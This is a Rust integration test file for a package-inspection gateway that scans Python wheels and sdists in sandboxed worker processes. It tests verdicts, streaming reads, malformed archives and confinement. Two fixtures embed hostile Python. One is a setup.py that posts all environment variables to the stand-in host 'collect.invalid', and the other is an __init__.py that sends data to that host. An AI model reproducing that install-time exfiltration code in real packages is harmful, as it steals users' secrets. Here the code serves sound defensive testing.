//! The process in which inspections happen, as the gateway starts it: it answers, it is held back, and what
//! brings it down is told.

use std::fs::File;
use std::io::Write as _;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::sync::Arc;
use std::time::Duration;

use portcullis_core::digest::Sha256;
use portcullis_core::policy::Effect;
use portcullis_core::pypi::filename::DistFilename;
use portcullis_core::time::Timestamp;
use portcullis_fixtures::{sdist, wheel};
use portcullis_inspect::archive::Arrived;
use portcullis_server::config::Overrides;
use portcullis_server::inspection::protocol::{
    Answer, ArrivingFile, Confinement, Request, message,
};
use portcullis_server::inspection::{self, Look, Place, Subject};
use portcullis_server::{App, Config};
use serde_json::Value;
use tempfile::TempDir;

const PROGRAM: &str = env!("CARGO_BIN_EXE_portcullis");

fn put(folder: &TempDir, filename: &str, bytes: &[u8]) -> PathBuf {
    let path = folder.path().join(filename);
    std::fs::write(&path, bytes).unwrap();
    path
}

fn worker(argument: &str, file: Option<&Path>) -> Output {
    let input = file.map_or_else(Stdio::null, |file| File::open(file).unwrap().into());
    Command::new(PROGRAM)
        .args(["inspect-worker", argument])
        .env_clear()
        .stdin(input)
        .output()
        .unwrap()
}

/// Asks about what is at `path`, which is taken for a file called `filename`.
fn ask(path: &Path, filename: &str) -> Answer {
    let request = Request {
        filename: filename.to_owned(),
        project: None,
        millis: 60_000,
        memory: 1536 << 20,
        arriving: None,
    };
    let output = worker(&serde_json::to_string(&request).unwrap(), Some(path));
    assert!(output.status.success(), "{output:?}");
    serde_json::from_slice(&output.stdout).unwrap()
}

#[test]
fn a_worker_reads_a_file_while_it_arrives() {
    let folder = TempDir::new().unwrap();
    let wheel = wheel("demo", "1.0").payload(600_000).file(
        "demo/__init__.py",
        "import urllib.request\nurllib.request.urlopen('https://collect.invalid/', data=b'x')\n",
    );
    let bytes = wheel.build();
    let path = put(&folder, &wheel.filename(), &bytes);
    let Answer::Inspected { inspection, .. } = ask(&path, &wheel.filename()) else {
        panic!("it can be read");
    };
    let arriving = put(&folder, "arriving", b"");
    let request = Request {
        filename: wheel.filename(),
        project: None,
        millis: 60_000,
        memory: 1536 << 20,
        arriving: Some(ArrivingFile {
            path: arriving.clone(),
            total: bytes.len() as u64,
        }),
    };
    let mut worker = Command::new(PROGRAM)
        .args(["inspect-worker", &serde_json::to_string(&request).unwrap()])
        .env_clear()
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let mut told = worker.stdin.take().unwrap();
    let mut file = File::options().append(true).open(&arriving).unwrap();
    let mut so_far = 0;
    for piece in bytes.chunks(50_000) {
        file.write_all(piece).unwrap();
        so_far += piece.len() as u64;
        told.write_all(&message(Arrived::SoFar(so_far))).unwrap();
    }
    told.write_all(&message(Arrived::Whole(so_far))).unwrap();
    let output = worker.wait_with_output().unwrap();
    let answer: Answer = serde_json::from_slice(&output.stdout).unwrap();
    let Answer::Inspected {
        inspection: along, ..
    } = answer
    else {
        panic!("{answer:?}");
    };
    assert!(!along.inspected.observations.is_empty());
    assert_eq!(along.inspected, inspection.inspected);
    assert_eq!(along.contents, inspection.contents);
}

#[test]
fn a_worker_answers_what_a_scan_says() {
    let folder = TempDir::new().unwrap();
    let setup = "import os, urllib.request\nopen('it-ran', 'w').close()\n\
        urllib.request.urlopen('https://collect.invalid/', data=str(dict(os.environ)).encode())\n";
    let beacon = sdist("beacon", "1.0").file("setup.py", setup);
    let path = put(&folder, &beacon.filename(), &beacon.build());
    let Answer::Inspected { inspection, peak } = ask(&path, &beacon.filename()) else {
        panic!("it can be read")
    };
    let scan = Command::new(PROGRAM)
        .args(["scan", "--format", "json"])
        .arg(&path)
        .output()
        .unwrap();
    let scan: Value = serde_json::from_slice(&scan.stdout).unwrap();
    let inspected = inspection.inspected;
    assert_eq!(inspected.effect(), Effect::Deny);
    assert_eq!(scan["sha256"], inspected.sha256.to_string());
    let found = inspected.observations.iter().map(|seen| &*seen.rule);
    let scanned = scan["findings"].as_array().unwrap().iter();
    let scanned: Vec<&str> = scanned.map(|one| one["id"].as_str().unwrap()).collect();
    assert_eq!(found.collect::<Vec<_>>(), scanned);
    assert_eq!(
        peak.is_some_and(|peak| peak > 1 << 20),
        cfg!(target_os = "linux")
    );
    assert!(!folder.path().join("it-ran").exists());
}

#[test]
fn what_cannot_be_read_is_an_answer_and_no_crash() {
    let folder = TempDir::new().unwrap();
    for (filename, bytes) in [
        ("demo-1.0-py3-none-any.whl", &b""[..]),
        (
            "demo-1.0-py3-none-any.whl",
            b"PK\x03\x04 and nothing that follows",
        ),
        ("demo-1.0.tar.gz", &[0x1f, 0x8b, 8, 0, 0]),
        ("demo-1.0.zip", b"PK\x05\x06"),
    ] {
        let answer = ask(&put(&folder, filename, bytes), filename);
        let Answer::Inspected { inspection, .. } = answer else {
            panic!("{answer:?}")
        };
        assert!(inspection.inspected.effect() >= Effect::Hold, "{filename}");
    }
    let answer = ask(folder.path(), "demo-1.0.tar.gz");
    assert!(matches!(answer, Answer::Unreadable { .. }), "{answer:?}");
}

#[test]
fn what_nobody_means_is_a_mistake() {
    for argument in ["{}", "nonsense", "{\"filename\":\"a\",\"run\":\"it\"}"] {
        let output = worker(argument, None);
        assert_eq!(output.status.code(), Some(2), "{argument}");
        assert!(output.stdout.is_empty(), "{argument}");
    }
}

#[test]
fn a_worker_is_held_back() {
    let output = worker("--probe", None);
    let confinement: Confinement = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(confinement.limits, cfg!(unix));
    assert_eq!(confinement.seccomp, cfg!(target_os = "linux"));
    assert_eq!(confinement.holes, Vec::<String>::new());
}

#[tokio::test]
async fn the_doctor_says_what_holds_inspections_back() {
    let folder = TempDir::new().unwrap();
    let app = gateway(&folder, 1536 << 20).await;
    app.db.close().await;
    let output = Command::new(PROGRAM)
        .args(["doctor", "--format", "json"])
        .current_dir(folder.path())
        .output()
        .unwrap();
    let said: Value = serde_json::from_slice(&output.stdout).unwrap();
    let checks = said["checks"].as_array().unwrap();
    let check = checks.iter().find(|check| check["what"] == "inspections");
    let check = check.unwrap();
    assert_eq!(check["answers"], true, "{check}");
    if cfg!(target_os = "linux") {
        let says = check["says"].as_str().unwrap();
        assert!(
            says.starts_with("in processes held back by: limits, "),
            "{says}"
        );
        assert!(says.ends_with("seccomp"), "{says}");
    }
}

/// A gateway with real workers, of which each may take `memory` bytes.
async fn gateway(folder: &TempDir, memory: u64) -> Arc<App> {
    let text = format!(
        "data = 'data'\n[sources.internal]\nkind = 'hosted'\n[indexes.main]\n\
         sources = ['internal']\n[inspection]\nworker = '{PROGRAM}'\ntime = '60s'\n"
    );
    let place = put(folder, "portcullis.toml", text.as_bytes());
    let mut config = Config::parse(&text, &place, &Overrides::default()).unwrap();
    config.inspection.memory = memory;
    let clock = Arc::new(|| Timestamp::from_millis(1_000));
    App::open(config, clock).await.unwrap()
}

fn subject(folder: &TempDir) -> Subject {
    let built = wheel("demo", "1.0").file("demo/__init__.py", "x = 1\n");
    let (filename, bytes) = (built.filename(), built.build());
    Subject {
        sha256: Sha256::of(&bytes),
        filename: DistFilename::parse(&filename, None).unwrap(),
        size: bytes.len() as u64,
        place: Place::Scratch(put(folder, &filename, &bytes)),
    }
}

#[tokio::test]
async fn a_gateway_sees_through_its_workers() {
    let folder = TempDir::new().unwrap();
    let app = gateway(&folder, 1536 << 20).await;
    let look = inspection::look(&app, &subject(&folder), Duration::from_secs(60)).await;
    let Look::Seen(seen) = look else {
        panic!("{look:?}")
    };
    assert_eq!((seen.complete, seen.effect()), (true, Effect::Allow));
    assert_eq!(seen.statistics.modules, 1);
}

#[cfg(target_os = "linux")]
#[tokio::test]
async fn a_worker_without_memory_becomes_a_record_of_not_knowing() {
    let folder = TempDir::new().unwrap();
    let app = gateway(&folder, 32 << 20).await;
    let subject = subject(&folder);
    let look = inspection::look(&app, &subject, Duration::from_secs(60)).await;
    let Look::Seen(seen) = look else {
        panic!("{look:?}")
    };
    assert_eq!((seen.complete, seen.effect()), (false, Effect::Hold));
    let seen = &seen.observations[0];
    assert!(seen.is_about_completeness(), "{seen:?}");
}
